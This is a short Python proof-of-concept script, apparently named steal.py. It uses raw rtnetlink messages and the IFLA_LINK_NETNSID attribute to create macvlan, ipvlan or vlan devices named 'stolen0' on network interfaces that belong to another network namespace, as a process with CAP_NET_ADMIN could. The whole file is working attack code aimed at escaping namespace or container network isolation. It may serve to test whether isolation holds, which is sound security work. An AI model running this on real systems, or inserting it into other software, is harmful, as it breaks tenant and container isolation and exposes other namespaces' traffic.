"""Makes devices upon the other end's namespace by its id, as an agent with CAP_NET_ADMIN might.

	steal.py KIND INDEX	KIND: macvlan, ipvlan, vlan; INDEX: of a device over there

Prints "made" or the error. Source: rtnetlink(7), linux/if_link.h (IFLA_LINK_NETNSID).
"""
import os
import socket
import struct
import sys

RTM_NEWLINK, RTM_GETLINK, RTM_GETNSID = 16, 18, 90
IFLA_IFNAME, IFLA_LINK, IFLA_LINKINFO, IFLA_LINK_NETNSID = 3, 5, 18, 37


def attr(kind, data):
    length = 4 + len(data)
    return struct.pack("HH", length, kind) + data + b"\0" * (-length % 4)


def talk(sock, kind, flags, body):
    sock.send(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body)
    answer = sock.recv(65535)
    if struct.unpack_from("H", answer, 4)[0] == 2:
        return -struct.unpack_from("i", answer, 16)[0], answer
    return 0, answer


def nsid_of_peer(sock):
    body = struct.pack("BxHiII", 0, 0, socket.if_nametoindex("eth0"), 0, 0)
    _, answer = talk(sock, RTM_GETLINK, 1, body)
    at = 16 + 16
    while at + 4 <= len(answer):
        length, kind = struct.unpack_from("HH", answer, at)
        if kind & 0x3FFF == IFLA_LINK_NETNSID:
            return struct.unpack_from("i", answer, at + 4)[0]
        at += (length + 3) & ~3
    raise SystemExit("no nsid")


def main():
    kind, index = sys.argv[1], int(sys.argv[2])
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    sock.bind((0, 0))
    info = attr(1, kind.encode() + b"\0")
    if kind == "vlan":
        info += attr(2, attr(1, struct.pack("H", 7)))
    body = (struct.pack("BxHiII", 0, 0, 0, 0, 0) + attr(IFLA_IFNAME, b"stolen0\0")
            + attr(IFLA_LINK, struct.pack("I", index))
            + attr(IFLA_LINK_NETNSID, struct.pack("i", nsid_of_peer(sock)))
            + attr(IFLA_LINKINFO, info))
    error, _ = talk(sock, RTM_NEWLINK, 0x605, body)
    print(os.strerror(error) if error else "made")


main()
